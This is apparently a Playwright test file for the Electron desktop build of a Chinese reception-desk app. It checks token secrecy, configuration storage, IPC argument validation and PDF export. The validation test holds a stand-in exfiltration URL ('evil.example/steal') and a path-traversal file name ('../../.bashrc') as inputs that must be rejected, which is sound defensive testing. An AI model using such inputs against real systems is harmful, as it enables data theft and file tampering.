/**
 * The desktop flavour end to end: the renderer in Chromium, talking through a preload-shaped
 * window.stationDesk to the REAL main-process IPC handlers and services (see
 * support/desktopHarness.ts for the few Electron APIs that are faked).
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { startCountyDouble } from './support/desktopCountyDouble';
import { installDesktopHarness, type DesktopHarness } from './support/desktopHarness';
import { completeFirstRun } from './support/setup';

const TOKEN = 'st-jianghai-0007-3f9a1c7e5b2d4e6f';

let harness: DesktopHarness;
let county: Awaited<ReturnType<typeof startCountyDouble>>;

test.beforeEach(async ({ page, baseURL }) => {
  county = await startCountyDouble();
  harness = await installDesktopHarness(page, baseURL!);
});

test.afterEach(async () => {
  await county.close();
  harness.dispose();
});

test('the app runs as the desktop flavour', async ({ page }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: '首次使用设置' })).toBeVisible();
  const info = await page.evaluate(() => window.stationDesk!.app.info());
  expect(info).toMatchObject({ name: '联络站接待台', flavour: 'desktop', platform: process.platform });
  await page.screenshot({ path: test.info().outputPath('desktop-first-run.png') });
});

test('county settings are stored by main and survive a reload', async ({ page }) => {
  await page.goto('/');
  const saved = await page.evaluate((endpointUrl) => window.stationDesk!.county.setConfig({ endpointUrl, caCertificatePem: '' }), county.url);
  expect(saved).toEqual({ endpointUrl: county.url, caCertificatePem: '' });
  const onDisk = JSON.parse(readFileSync(join(harness.userDataDir, 'county-config.json'), 'utf8')) as unknown;
  expect(onDisk).toEqual({ endpointUrl: county.url, caCertificatePem: '' });
  await page.reload();
  expect(await page.evaluate(() => window.stationDesk!.county.getConfig())).toEqual({ endpointUrl: county.url, caCertificatePem: '' });
  expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain(county.url);
});

test('the token stays in main and is sent as Authorization by main', async ({ page }) => {
  await page.goto('/');
  await page.evaluate((endpointUrl) => window.stationDesk!.county.setConfig({ endpointUrl, caCertificatePem: '' }), county.url);
  const status = await page.evaluate((token) => window.stationDesk!.county.setToken({ token }), TOKEN);
  expect(status).toEqual({ configured: true, masked: `••••${TOKEN.slice(-4)}`, encrypted: true });

  const answer = await page.evaluate(() => window.stationDesk!.county.send({ method: 'GET', path: '/v1/pull?cursor=0' }));
  expect(answer).toEqual({ kind: 'response', status: 200, retryAfter: null, body: '{"updates":[],"cursor":"0"}' });
  expect(county.requests).toHaveLength(1);
  expect(county.requests[0]).toMatchObject({ method: 'GET', url: '/v1/pull?cursor=0' });
  expect(county.requests[0]!.headers.authorization).toBe(`Bearer ${TOKEN}`);

  // Nowhere on the renderer's side: not returned, not in web storage, not in the page.
  const pageSide = await page.evaluate(async () => {
    const status = await window.stationDesk!.county.tokenStatus();
    return JSON.stringify({ status, local: { ...localStorage }, session: { ...sessionStorage }, html: document.documentElement.outerHTML, cookie: document.cookie });
  });
  expect(pageSide).not.toContain(TOKEN);
  expect(pageSide).not.toContain(TOKEN.slice(0, 12));
  // Encrypted at rest, and never logged.
  expect(readFileSync(join(harness.userDataDir, 'county-token.bin')).toString('latin1')).not.toContain(TOKEN);
  expect(harness.logText()).toContain('county request answered');
  expect(harness.logText()).not.toContain(TOKEN);
});

test("main's validation rejects bad arguments and foreign pages", async ({ page }) => {
  await page.goto('/');
  await page.evaluate((endpointUrl) => window.stationDesk!.county.setConfig({ endpointUrl, caCertificatePem: '' }), county.url);
  await page.evaluate((token) => window.stationDesk!.county.setToken({ token }), TOKEN);

  const errors = await page.evaluate(async () => {
    const bridge = window.stationDesk as unknown as Record<string, Record<string, (arg?: unknown) => Promise<unknown>>>;
    const attempt = (p: Promise<unknown>) => p.then(() => 'resolved', (e: Error) => e.message);
    return [
      await attempt(bridge.county!.send!({ method: 'GET', path: 'http://evil.example/steal' })),
      await attempt(bridge.county!.send!({ method: 'DELETE', path: '/v1/push' })),
      await attempt(bridge.county!.setToken!({ token: 42 })),
      await attempt(bridge.print!.savePdf!({ suggestedName: '../../.bashrc' })),
    ];
  });
  for (const message of errors) expect(message).toMatch(/Invalid argument for (county:send|county:setToken|print:savePdf)/);
  expect(county.requests).toHaveLength(0);
  expect(harness.saveDialogOffers).toHaveLength(0);
  expect(harness.logText()).toContain('ipc rejected: invalid argument');
  expect(harness.logText()).not.toContain('evil.example/steal');

  // A page from another origin gets the same binding but main refuses it.
  await page.goto(county.url + '/elsewhere');
  const foreign = await page.evaluate(() => window.stationDesk!.county.tokenStatus().then(() => 'resolved', (e: Error) => e.message));
  expect(foreign).toMatch(/sender is not the app/);
});

test('print:savePdf writes a real A4 PDF of the current page', async ({ page }) => {
  await completeFirstRun(page);
  const heading = (await page.getByRole('heading', { level: 1 }).first().innerText()).trim();
  expect(heading.length).toBeGreaterThan(0);
  const target = join(harness.documentsDir, 'chosen.pdf');
  harness.answerSaveDialog(() => target);
  const result = await page.evaluate(() => window.stationDesk!.print.savePdf({ suggestedName: '来访接待登记表.pdf' }));
  expect(result).toEqual({ outcome: 'saved', message: `已保存到 ${target}` });
  expect(harness.saveDialogOffers).toEqual([join(harness.documentsDir, '来访接待登记表.pdf')]);
  expect(existsSync(target)).toBe(true);

  const info = execFileSync('pdfinfo', [target], { encoding: 'utf8' });
  expect(info).toMatch(/Page size:\s+59[56]\.\d+ x 84[12]\.\d+ pts \(A4\)/);
  // The PDF is of the page the request came from: its heading, in real Chinese glyphs.
  expect(execFileSync('pdftotext', [target, '-'], { encoding: 'utf8' }).replace(/\s+/g, '')).toContain(heading.replace(/\s+/g, ''));
  execFileSync('pdftoppm', ['-png', '-r', '60', '-f', '1', '-l', '1', target, test.info().outputPath('saved-pdf')]);

  harness.answerSaveDialog(() => null);
  expect(await page.evaluate(() => window.stationDesk!.print.savePdf({}))).toEqual({ outcome: 'cancelled', message: '' });
});
